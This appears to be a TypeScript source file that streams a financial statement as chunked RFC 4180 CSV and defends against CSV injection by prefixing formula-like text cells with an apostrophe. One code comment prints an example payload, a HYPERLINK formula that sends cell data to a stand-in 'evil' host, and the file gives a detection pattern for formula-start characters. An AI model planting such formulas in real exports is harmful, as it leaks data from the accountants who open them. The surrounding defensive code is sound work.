import { CRLF, csvField } from '../../csv';
import { decimalAmount } from './amount';
import { type StatementRow } from './types';

/** The contract's columns, in its order. */
export const STATEMENT_CSV_COLUMNS = [
  'occurred_at',
  'type',
  'id',
  'reference',
  'description',
  'gross',
  'fee',
  'net',
  'balance_after',
  'currency',
] as const;

const HEADER_LINE = STATEMENT_CSV_COLUMNS.join(',') + CRLF;

/** What one yielded chunk aims at, in UTF-8 bytes. */
export const STATEMENT_CSV_CHUNK_BYTES = 64 * 1024;

export interface StatementCsvOptions {
  /** UTF-8 bytes a chunk may reach before it is yielded; a single longer line is yielded alone. */
  chunkBytes?: number;
}

/**
 * The statement as RFC 4180 CSV (UTF-8, CRLF, a header row), yielded in
 * chunks of at most ~64 KB so that neither the whole file nor a string per
 * row is ever held. Empty input yields the header row alone.
 *
 * For a byte stream: `Readable.from(statementCsv(rows), { objectMode: false })`.
 */
export async function* statementCsv(
  rows: AsyncIterable<StatementRow> | Iterable<StatementRow>,
  options: StatementCsvOptions = {},
): AsyncGenerator<string, void, undefined> {
  const chunkBytes = options.chunkBytes ?? STATEMENT_CSV_CHUNK_BYTES;
  let lines: string[] = [HEADER_LINE];
  let bytes = Buffer.byteLength(HEADER_LINE);
  for await (const row of rows) {
    const line = statementCsvLine(row);
    const lineBytes = Buffer.byteLength(line);
    if (bytes + lineBytes > chunkBytes && lines.length > 0) {
      yield lines.join('');
      lines = [];
      bytes = 0;
    }
    lines.push(line);
    bytes += lineBytes;
  }
  if (lines.length > 0) yield lines.join('');
}

/** One row as a CSV line, CRLF included. */
export function statementCsvLine(row: StatementRow): string {
  return (
    [
      row.occurredAt.toISOString(),
      csvField(row.type),
      csvField(row.id),
      csvText(row.reference ?? ''),
      csvText(row.description),
      decimalAmount(row.gross),
      decimalAmount(row.fee),
      decimalAmount(row.net),
      decimalAmount(row.balanceAfter),
      csvField(row.currency),
    ].join(',') + CRLF
  );
}

// Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with
// one of these as a formula. References and descriptions come from payers and
// businesses, so a reference like `=HYPERLINK("https://evil/?"&A1,"refund")`
// would run on the accountant's machine when the statement is opened (CSV
// injection, OWASP). A leading apostrophe makes the cell plain text; the cost
// is that a reference legitimately starting with `-` or `+` reads with an
// apostrophe in other tools. Amounts are not text and are left as numbers.
const FORMULA_START = /^[=+\-@\t\r]/;

function csvText(value: string): string {
  return csvField(FORMULA_START.test(value) ? `'${value}` : value);
}
